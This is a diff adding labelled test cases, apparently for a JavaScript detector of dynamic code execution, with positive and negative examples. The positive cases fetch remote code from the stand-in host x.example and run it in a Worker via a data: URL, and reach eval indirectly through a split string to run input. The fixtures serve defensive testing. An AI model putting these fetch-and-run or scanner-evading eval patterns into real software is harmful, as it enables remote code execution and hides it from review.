@@ -121,3 +121,17 @@ const path = require('path');
 cluster.setupPrimary({ exec: path.join(__dirname, 'worker.js') });
 cluster.setupPrimary({ exec: 'worker.js', args: ['--port', '8080'] });
 cluster.fork();
+//@ pos a worker started from a data: URL of JavaScript
+const { Worker } = require('worker_threads');
+fetch('https://x.example/p.js').then((r) => r.text()).then((code) => {
+  new Worker(new URL('data:text/javascript,' + encodeURIComponent(code)));
+});
+//@ pos eval taken from globalThis's property descriptor
+const run = Object.getOwnPropertyDescriptor(globalThis, 'ev' + 'al').value;
+run(process.argv[2]);
+//@ neg a data: URL of an image
+const img = 'data:image/png;base64,' + Buffer.from([1, 2, 3]).toString('base64');
+console.log(img);
+//@ neg a property descriptor of an ordinary object
+const d = Object.getOwnPropertyDescriptor({ a: 1 }, 'a').value;
+console.log(d);
